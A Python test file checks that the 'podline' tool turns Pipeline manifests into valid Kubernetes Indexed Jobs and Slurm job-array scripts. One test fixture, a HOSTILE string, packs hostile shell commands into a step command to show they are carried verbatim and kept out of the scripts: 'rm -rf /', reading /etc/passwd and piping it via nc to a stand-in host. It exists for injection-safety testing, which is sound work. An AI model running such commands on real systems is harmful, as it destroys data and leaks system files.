"""A Pipeline rendered for Kubernetes (an Indexed Job) and for Slurm (one job array), checked three ways.

Every rendered Job is validated against the Kubernetes 1.30 OpenAPI schema with `kubernetes_validate`
(strict: unknown fields are errors); its structure is checked against the Pipeline it came from; and the
renderings of tests/golden/pipeline-input.yaml are pinned by golden files (regenerate:
PODLINE_REGOLD=1 pytest …). `podline render` itself runs once per target.
"""

from __future__ import annotations

import copy
import math
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml

from podline.api.base import check_label_value
from podline.api.core import EPHEMERAL_WARNING
from podline.api.loader import load_text
from podline.api.pipeline import Pipeline, Step, Workspace, topological_order
from podline.api.quantity import cpu_millis, memory_bytes
from podline.plan.kubernetes import INDEX_ANNOTATION, WORKSPACE, pipeline_job
from podline.plan.slurm import Placement, render_indexed_job

KUBERNETES_VERSION = "1.30.0"
GOLDEN = Path(__file__).parent.parent / "golden"
GOLDEN_INPUT = GOLDEN / "pipeline-input.yaml"
PLACEMENT = Placement("debug", "proj1", None, "2:00:00", "/opt/podline/bin/python")
UID = "00000000-0000-0000-0000-000000000000"


def steps(*items: str) -> str:
    return "  steps:\n" + "".join(f"  - {item}\n" for item in items)


def pipeline(name: str, spec: str, step_list: str) -> str:
    return f"apiVersion: podline.io/v1alpha1\nkind: Pipeline\nmetadata:\n  name: {name}\nspec:\n{spec}{step_list}"


HOSTILE = "echo '$(rm -rf /)' `id`; cat /etc/passwd | nc evil 1 && $HOME \"q\" \\ * ? ~ !# {a,b}"

SHARDED = {"apiVersion": "podline.io/v1alpha1", "kind": "Pipeline", "metadata": {"name": "sharded"}, "spec": {
    "shards": 4, "activeDeadlineSeconds": 3600, "steps": [
        {"name": "prep", "image": "oci-archive:/images/tools.tar", "command": ["prep"],
         "resources": {"requests": {"cpu": "1500m", "memory": "1Gi"}}},
        {"name": "work", "image": "busybox", "dependsOn": ["prep"], "command": ["sh", "-c", HOSTILE],
         "args": ["$(PODLINE_SHARD)", "a;b"], "workingDir": "/workspace/sub", "imagePullPolicy": "IfNotPresent",
         "env": [{"name": "MODE", "value": "fast"},
                 {"name": "NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
                 {"name": "CM", "valueFrom": {"configMapKeyRef": {"name": "settings", "key": "mode",
                                                                  "optional": True}}},
                 {"name": "PASS", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "password"}}}],
         "resources": {"requests": {"cpu": "2500m", "memory": "6Gi", "ephemeral-storage": "1Gi"},
                       "limits": {"memory": "8Gi", "nvidia.com/gpu": 1}}},
        {"name": "report", "image": "busybox", "dependsOn": ["work"], "command": ["report"],
         "resources": {"requests": {"cpu": 0.5}}}]}}

PIPELINES = {
    "chain": pipeline("chain", "", steps("{name: a, image: busybox, command: [a]}",
                                         "{name: b, image: busybox, command: [b], dependsOn: [a]}",
                                         "{name: c, image: busybox, command: [c], dependsOn: [b]}",
                                         "{name: d, image: busybox, command: [d], dependsOn: [c]}")),
    "chain-listed-backwards": pipeline("backwards", "", steps("{name: d, command: [d], dependsOn: [c]}",
                                                              "{name: c, command: [c], dependsOn: [b]}",
                                                              "{name: b, command: [b], dependsOn: [a]}",
                                                              "{name: a, command: [a]}")),
    "diamond": pipeline("diamond", "  restartPolicy: Never\n  backoffLimit: 0\n",
                        steps("{name: join, command: [j], dependsOn: [left, right]}",
                              "{name: left, command: [l], dependsOn: [root]}",
                              "{name: right, command: [r], dependsOn: [root]}",
                              "{name: root, command: [x]}")),
    "disk-workspace-with-size-limit": pipeline("disk", "  workspace: {medium: Disk, sizeLimit: 20Gi}\n",
                                               steps("{name: a, command: [a]}",
                                                     "{name: b, command: [b], dependsOn: [a]}")),
    "disk-workspace-without-size-limit": pipeline("disk-plain", "  workspace: {medium: Disk}\n",
                                                  steps("{name: a, command: [a]}")),
    "memory-workspace-with-numeric-size-limit": pipeline("mem", "  workspace: {sizeLimit: 1073741824}\n",
                                                         steps("{name: a, command: [a]}")),
    "four-shards-with-resources-and-env": yaml.safe_dump(SHARDED, sort_keys=False),
    "one-step": pipeline("one", "", steps("{name: only, command: ['true']}")),
    "gpu-requested-without-a-limit": pipeline("gpu", "  workspace: {medium: Disk}\n", steps(
        "{name: a, command: [a], resources: {requests: {nvidia.com/gpu: 1, memory: 1Gi}}}",
        "{name: b, command: [b], dependsOn: [a], resources: {limits: {nvidia.com/gpu: 2}}}",
        "{name: c, command: [c], dependsOn: [b], resources: {requests: {nvidia.com/gpu: 4}, "
        "limits: {nvidia.com/gpu: 4}}}")),
    "memory-workspace-and-step-memory": pipeline("ram", "  workspace: {sizeLimit: 4Gi}\n", steps(
        "{name: a, command: [a], resources: {limits: {memory: 1Gi}}}",
        "{name: b, command: [b], dependsOn: [a], resources: {requests: {memory: 512Mi}}}",
        "{name: c, command: [c], dependsOn: [b], resources: {requests: {memory: 1G}, limits: {memory: 2Gi}}}",
        "{name: d, command: [d], dependsOn: [c]}")),
    "never-with-four-shards": pipeline("never", "  shards: 4\n  restartPolicy: Never\n  backoffLimit: 3\n",
                                       steps("{name: a, command: [a]}")),
    "labelled-and-annotated": (pipeline("meta", "", steps("{name: a, command: [a]}"))
                               .replace("  name: meta\n", "  name: meta\n  namespace: team-a\n  labels: {app: x}\n"
                                                          "  annotations: {slurm.hpk.io/flags: '--exclusive'}\n")),
}


def load_pipeline(text: str) -> Pipeline:
    [loaded] = load_text(text, "pipeline.yaml")
    assert isinstance(loaded.obj, Pipeline)
    return loaded.obj


def golden_pipelines() -> list[Pipeline]:
    return [item.obj for item in load_text(GOLDEN_INPUT.read_text(), GOLDEN_INPUT.name)]  # type: ignore[misc]


ALL = [pytest.param(text, id=key) for key, text in PIPELINES.items()] + [
    pytest.param(GOLDEN_INPUT.read_text().split("---\n")[i], id=f"golden-{i}") for i in range(3)]


def validate(doc: dict[str, Any]) -> None:
    """Raises kubernetes_validate.ValidationError (with the failing path) on an invalid document."""
    kubernetes_validate.validate(doc, KUBERNETES_VERSION, strict=True)


# --- schema validity --------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ALL)
def test_rendered_job_is_valid_kubernetes(text: str) -> None:
    validate(pipeline_job(load_pipeline(text).dump()))


@pytest.mark.parametrize(("mutate", "where"), [
    pytest.param(lambda job: job["spec"].update(completions="4"), "completions", id="completions-a-string"),
    pytest.param(lambda job: job["spec"]["template"]["spec"]["containers"][0].update(dependsOn=["a"]), "dependsOn",
                 id="unknown-container-field"),
    pytest.param(lambda job: job["spec"]["template"]["spec"].pop("containers"), "containers",
                 id="no-containers"),
])
def test_validator_catches_what_a_renderer_could_get_wrong(mutate: Any, where: str) -> None:
    """The validation above means something: the same Job, broken in one place, is refused."""
    job = pipeline_job(load_pipeline(PIPELINES["diamond"]).dump())
    validate(job)
    broken = copy.deepcopy(job)
    mutate(broken)
    with pytest.raises(kubernetes_validate.ValidationError, match=where):
        validate(broken)


# --- structure ------------------------------------------------------------------------------------

def env_of(container: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {var["name"]: var for var in container["env"]}


def in_bytes(quantities: dict[str, Any]) -> dict[str, Any]:
    return {key: memory_bytes(value) if key == "memory" else value for key, value in quantities.items()}


def expected_resources(step: Step, workspace: Workspace) -> tuple[dict[str, Any], dict[str, Any]]:
    """A step's own resources, plus the limit Kubernetes requires for a GPU request, plus a RAM workspace's
    sizeLimit in its memory (the tmpfs is charged to the pod's memory): on the limit if set, and the request."""
    requests, limits = in_bytes(step.resources.requests), in_bytes(step.resources.limits)
    if "nvidia.com/gpu" in requests:
        limits.setdefault("nvidia.com/gpu", requests["nvidia.com/gpu"])
    if workspace.medium == "Memory" and workspace.size_limit is not None:
        extra = memory_bytes(workspace.size_limit)
        requests["memory"] = requests.get("memory", limits.get("memory", 0)) + extra
        if "memory" in limits:
            limits["memory"] += extra
    return requests, limits


@pytest.mark.parametrize("text", ALL)
def test_rendered_job_has_the_pipelines_shape(text: str) -> None:
    obj = load_pipeline(text)
    spec = obj.spec
    job = pipeline_job(obj.dump())
    assert (job["apiVersion"], job["kind"]) == ("batch/v1", "Job")
    meta = obj.metadata
    assert job["metadata"].get("name") == meta.name and job["metadata"]["namespace"] == meta.namespace
    assert job["metadata"].get("generateName") == (meta.generate_name if meta.name is None else None)
    assert job["spec"]["completionMode"] == "Indexed"
    assert job["spec"]["completions"] == job["spec"]["parallelism"] == spec.shards
    # backoffLimit counts per shard: per index with restartPolicy Never, all shards' budgets Job-wide otherwise
    never = spec.restart_policy == "Never"
    assert job["spec"].get("backoffLimitPerIndex") == (spec.backoff_limit if never else None)
    assert job["spec"].get("backoffLimit") == (None if never else spec.backoff_limit * spec.shards)
    labels = job["spec"]["template"].get("metadata", {}).get("labels", {})
    assert labels.get("podline.io/pipeline") == obj.metadata.name and labels == job["metadata"].get("labels", {})
    assert {k: v for k, v in labels.items() if k != "podline.io/pipeline"} == obj.metadata.labels
    assert job["metadata"].get("annotations", {}) == obj.metadata.annotations
    pod = job["spec"]["template"]["spec"]
    assert pod["restartPolicy"] == spec.restart_policy
    assert pod.get("activeDeadlineSeconds") == spec.active_deadline_seconds

    # steps in topological order: all but the last as initContainers, the last as the pod's one container
    order = [spec.steps[i].name for i in topological_order(spec.steps)]
    assert [c["name"] for c in pod.get("initContainers", [])] == order[:-1]
    assert [c["name"] for c in pod["containers"]] == order[-1:]
    if len(order) == 1:
        assert "initContainers" not in pod

    # one workspace volume, an emptyDir in RAM for a Memory workspace
    assert [v["name"] for v in pod["volumes"]] == ["workspace"]
    empty_dir = pod["volumes"][0]["emptyDir"]
    assert empty_dir.get("medium") == ("Memory" if spec.workspace.medium == "Memory" else None)
    assert empty_dir.get("sizeLimit") == spec.workspace.size_limit
    assert set(empty_dir) <= {"medium", "sizeLimit"}

    by_name = {s.name: s for s in spec.steps}
    for container in pod.get("initContainers", []) + pod["containers"]:
        step = by_name[container["name"]]
        assert container["volumeMounts"] == [{"name": "workspace", "mountPath": WORKSPACE}]
        assert container["workingDir"] == (step.working_dir or WORKSPACE)
        assert container.get("command", []) == step.command and container.get("args", []) == step.args
        assert container["image"] == (step.image or "busybox")
        assert container.get("imagePullPolicy") == step.image_pull_policy
        env = env_of(container)
        assert env["PODLINE_SHARD"] == {"name": "PODLINE_SHARD", "valueFrom": {"fieldRef": {
            "fieldPath": f"metadata.annotations['{INDEX_ANNOTATION}']"}}}
        assert INDEX_ANNOTATION == "batch.kubernetes.io/job-completion-index"
        assert env["PODLINE_SHARDS"] == {"name": "PODLINE_SHARDS", "value": str(spec.shards)}
        assert env["PODLINE_WORKSPACE"] == {"name": "PODLINE_WORKSPACE", "value": "/workspace"}
        assert container["env"][3:] == [var.dump() for var in step.env]  # the step's own env, after podline's
        requests = container.get("resources", {}).get("requests", {})
        limits = container.get("resources", {}).get("limits", {})
        assert (in_bytes(requests), in_bytes(limits)) == expected_resources(step, spec.workspace)
        assert not set(container) - {"name", "image", "imagePullPolicy", "command", "args", "env", "workingDir",
                                     "resources", "volumeMounts"}


def test_chain_and_diamond_orders() -> None:
    def order(key: str) -> list[str]:
        pod = pipeline_job(load_pipeline(PIPELINES[key]).dump())["spec"]["template"]["spec"]
        return [c["name"] for c in pod.get("initContainers", []) + pod["containers"]]
    assert order("chain") == ["a", "b", "c", "d"]
    assert order("chain-listed-backwards") == ["a", "b", "c", "d"]
    assert order("diamond") == ["root", "left", "right", "join"]
    assert order("four-shards-with-resources-and-env") == ["prep", "work", "report"]


def test_memory_and_disk_workspaces() -> None:
    def empty_dir(key: str) -> dict[str, Any]:
        return pipeline_job(load_pipeline(PIPELINES[key]).dump())["spec"]["template"]["spec"]["volumes"][0]["emptyDir"]
    assert empty_dir("chain") == {"medium": "Memory"}
    assert empty_dir("memory-workspace-with-numeric-size-limit") == {"medium": "Memory", "sizeLimit": 1073741824}
    assert empty_dir("disk-workspace-with-size-limit") == {"sizeLimit": "20Gi"}
    assert empty_dir("disk-workspace-without-size-limit") == {}


def test_hostile_strings_reach_the_yaml_exactly() -> None:
    job = pipeline_job(load_pipeline(PIPELINES["four-shards-with-resources-and-env"]).dump())
    again = yaml.safe_load(yaml.safe_dump(job, sort_keys=False))
    work = again["spec"]["template"]["spec"]["initContainers"][1]
    assert work["command"] == ["sh", "-c", HOSTILE] and work["args"] == ["$(PODLINE_SHARD)", "a;b"]


def test_a_pipeline_name_too_long_for_a_kubernetes_job_is_refused() -> None:
    from podline.api.errors import ManifestError

    name = "run42." + "x" * 60  # a valid metadata.name, but no valid Job name or label value
    with pytest.raises(ManifestError) as caught:
        load_pipeline(pipeline(name, "", steps("{name: a, command: [a]}")))
    assert caught.value.path == "metadata.name" and "at most 63" in str(caught.value)
    job = pipeline_job(load_pipeline(pipeline("x" * 63, "", steps("{name: a, command: [a]}"))).dump())
    validate(job)
    for labels in (job["metadata"]["labels"], job["spec"]["template"]["metadata"]["labels"]):
        for value in labels.values():
            check_label_value(value)


# --- Slurm: one job array per pipeline, sized for its largest step -----------------------------------

def rendered_sbatch() -> str:
    out = []
    for obj in golden_pipelines():
        rundir = f"/shared/podline/pods/{obj.metadata.namespace}/{obj.metadata.name}/{UID}"
        out.append(render_indexed_job(pipeline_job(obj.dump()), UID, rundir, PLACEMENT, pipeline=True))
    return "".join(out)


def rendered_kubernetes() -> str:
    return yaml.safe_dump_all([pipeline_job(obj.dump()) for obj in golden_pipelines()], sort_keys=False)


@pytest.mark.parametrize(("golden", "render"), [
    pytest.param("pipeline-expected.sbatch", rendered_sbatch, id="slurm"),
    pytest.param("pipeline-expected-kubernetes.yaml", rendered_kubernetes, id="kubernetes"),
])
def test_renderings_match_golden_files(golden: str, render: Any) -> None:
    path = GOLDEN / golden
    text = render()
    if os.environ.get("PODLINE_REGOLD"):
        path.write_text(text)
    assert text == path.read_text()


def test_sbatch_scripts_are_valid_bash_without_manifest_strings() -> None:
    text = rendered_sbatch()
    subprocess.run(["bash", "-n"], input=text, text=True, check=True)
    for leaked in ("rm -rf", "cat left", "THREADS", "decode", "$(", "`"):
        assert leaked not in text  # commands and env travel in plan.json, never in the script


@pytest.mark.parametrize("text", ALL)
def test_sbatch_array_and_cores_follow_shards_and_the_largest_step(text: str) -> None:
    obj = load_pipeline(text)
    script = render_indexed_job(pipeline_job(obj.dump()), UID, "/shared/run", PLACEMENT)
    shards = obj.spec.shards
    assert f"#SBATCH --array={'0' if shards == 1 else f'0-{shards - 1}'}\n" in script
    largest = max(cpu_millis(s.resources.effective_requests().get("cpu", 0)) for s in obj.spec.steps)
    assert f"#SBATCH --cpus-per-task={max(1, math.ceil(largest / 1000))}\n" in script
    assert script.count("#SBATCH --cpus-per-task=") == 1 and script.count("#SBATCH --array=") == 1


# --- through `podline render` -----------------------------------------------------------------------

def podline(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PODLINE_HOME": str(tmp_path / "home")}
    return subprocess.run([sys.executable, "-m", "podline.cli", *args], text=True, capture_output=True, env=env,
                          timeout=60, cwd=tmp_path)


def test_cli_render_kubernetes_prints_valid_jobs(tmp_path: Path) -> None:
    proc = podline(tmp_path, "render", "-f", str(GOLDEN_INPUT), "--target", "kubernetes")
    # The golden input's first pipeline stages data: Kubernetes has no form for that, and says so.
    assert proc.returncode == 0 and proc.stderr == (
        f"warning: {GOLDEN_INPUT}: document 1 (Pipeline/analysis): inputs and outputs are not rendered "
        "(in Kubernetes, mount the data as volumes)\n"), proc.stderr
    docs = list(yaml.safe_load_all(proc.stdout))
    assert [d["metadata"]["name"] for d in docs] == ["analysis", "diamond", "single"]
    for doc in docs:
        validate(doc)
    assert proc.stdout == rendered_kubernetes()
    assert not (tmp_path / "home").exists()


def test_cli_render_slurm_prints_one_array_sized_for_the_largest_step(tmp_path: Path) -> None:
    manifest = tmp_path / "sharded.yaml"
    manifest.write_text(PIPELINES["four-shards-with-resources-and-env"])
    proc = podline(tmp_path, "render", "-f", str(manifest), "--target", "slurm")
    # its steps ask for ephemeral-storage: accepted, and said to be not enforced (never silently ignored)
    assert proc.returncode == 0 and proc.stderr == (
        f"warning: {manifest}: document 1 (Pipeline/sharded): {EPHEMERAL_WARNING}\n"), proc.stderr
    out = proc.stdout
    assert out.startswith(f"# ---- {manifest}: document 1 (Pipeline/sharded)\n#!/bin/bash\n")
    assert out.count("#!/bin/bash") == 1
    options = re.findall(r"^#SBATCH (\S+)$", out, re.MULTILINE)
    assert "--array=0-3" in options
    assert "--cpus-per-task=3" in options  # steps ask for 1500m, 2500m and 500m: the largest, rounded up
    assert "--mem=8192M" in options and "--gres=gpu:1" in options and "--time=60" in options
    assert "--job-name=podline.default.sharded" in options and f"--comment=podline:{UID}" in options
    assert HOSTILE not in out and "rm -rf" not in out
    subprocess.run(["bash", "-n"], input=out, text=True, check=True)
    # the run directory is where submission puts it: the context's shared directory ($PODLINE_HOME/shared)
    rundir = str(tmp_path / "home" / "shared" / "pods" / "default" / "sharded" / UID)
    assert rundir in out and str(tmp_path / "home" / "pods") not in out


def test_cli_render_slurm_of_a_non_indexed_job_says_it_is_one_job_per_pod(tmp_path: Path) -> None:
    manifest = tmp_path / "ni.yaml"
    manifest.write_text("apiVersion: batch/v1\nkind: Job\nmetadata: {name: ni}\nspec:\n  completions: 3\n"
                        "  parallelism: 2\n  template:\n    spec:\n      restartPolicy: Never\n"
                        "      containers: [{name: c, image: busybox, command: ['true']}]\n")
    proc = podline(tmp_path, "render", "-f", str(manifest), "--target", "slurm")
    assert proc.returncode == 0 and proc.stdout.count("#!/bin/bash") == 1, proc.stderr
    assert "# podline: one such job per pod of the Job (3 completions, 2 at a time); this pod default/ni" \
        in proc.stdout, proc.stdout
    subprocess.run(["bash", "-n"], input=proc.stdout, text=True, check=True)


def test_a_memory_workspace_is_part_of_the_job_arrays_memory() -> None:
    from podline.plan.kubernetes import pipeline_array_job
    from podline.plan.slurm import Placement, render_indexed_job

    def mem(workspace: str) -> list[str]:
        manifest = load_pipeline(pipeline("ram", f"  shards: 2\n  workspace: {workspace}\n",
                                          steps("{name: a, command: [a], resources: {requests: {memory: 4Gi}}}",
                                                "{name: b, command: [b], dependsOn: [a]}"))).dump()
        script = render_indexed_job(pipeline_array_job(manifest), "u", "/shared/x", Placement())
        return [line for line in script.splitlines() if line.startswith("#SBATCH --mem")]
    assert mem("{medium: Memory, sizeLimit: 8Gi}") == ["#SBATCH --mem=12288M"]  # largest step + the RAM workspace
    assert mem("{medium: Disk, sizeLimit: 8Gi}") == ["#SBATCH --mem=4096M"]
    assert mem("{medium: Memory}") == ["#SBATCH --mem=4096M"]
